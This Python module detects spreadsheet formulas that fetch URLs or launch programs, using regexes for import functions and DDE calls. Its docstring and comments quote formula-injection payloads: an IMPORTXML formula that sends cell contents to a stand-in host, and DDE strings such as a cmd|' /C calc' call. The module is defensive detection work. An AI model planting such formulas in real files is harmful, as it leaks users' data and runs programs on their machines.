"""Spreadsheet formulas that reach the network or run programs when a sheet is opened.

A value written into a cell is data, except a formula: ``=IMPORTXML("https://x.example/?d="
&A1, "//a")`` fetches a URL built from the sheet's own cells each time it is computed (data
leaving through a read, no send in sight), ``=IMAGE(...)``, ``=WEBSERVICE(...)`` and the other
import functions do the same, and ``=cmd|' /C calc'!A0`` (DDE) starts a program in the
spreadsheet application that opens the file. :func:`read_formula` says which.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = ["FormulaReading", "read_formula"]

# Functions that fetch a URL given as their first argument when computed (Google Sheets,
# Excel, LibreOffice); HYPERLINK is not one: it fetches only when someone clicks it
_FETCHERS = re.compile(
    r"(?i)\b(?:IMPORTXML|IMPORTHTML|IMPORTDATA|IMPORTFEED|IMPORTRANGE|IMAGE|WEBSERVICE)\s*\("
)
_LITERAL_URL = re.compile(r"""(?i)["'](https?://[^"'\s]+)["']""")
# Computing the URL from other cells or functions: ``"...?d=" & A1``, CONCAT, TEXTJOIN
_COMPUTED = re.compile(r"(?i)&|\bCONCAT(?:ENATE)?\s*\(|\bTEXTJOIN\s*\(|\bENCODEURL\s*\(")
# Dynamic Data Exchange: ``=cmd|' /C calc'!A0``, ``@SUM(cmd|'/c calc'!A0)``, ``=DDE(...)``
_DDE = re.compile(r"(?i)\b[a-z][\w.]*\s*\|\s*['\"]|\bDDE(?:AUTO)?\s*\(|\bMSEXCEL\s*\|")
_FORMULA_START = ("=", "+", "-", "@")
_MAX_CHARS = 8192


@dataclass(frozen=True, slots=True, kw_only=True)
class FormulaReading:
    """What a formula does when computed: ``urls`` it fetches (literal ones),
    ``fetches`` any fetch at all, ``computed`` whether a fetched URL is built from other
    cells, ``runs_program`` a DDE call."""

    urls: tuple[str, ...] = ()
    fetches: bool = False
    computed: bool = False
    runs_program: bool = False


def read_formula(value: str) -> FormulaReading | None:
    """Read ``value`` as a spreadsheet formula; ``None`` when it is none or does nothing
    beyond the sheet."""
    text = value.strip()[:_MAX_CHARS]
    if len(text) < 2 or not text.startswith(_FORMULA_START):
        return None
    runs = _DDE.search(text) is not None
    fetch = _FETCHERS.search(text)
    if fetch is None and not runs:
        return None
    urls: tuple[str, ...] = ()
    computed = False
    if fetch is not None:
        tail = text[fetch.end() :]
        urls = tuple(m.group(1) for m in _LITERAL_URL.finditer(tail))[:8]
        computed = _COMPUTED.search(tail) is not None
    return FormulaReading(
        urls=urls, fetches=fetch is not None, computed=computed, runs_program=runs
    )
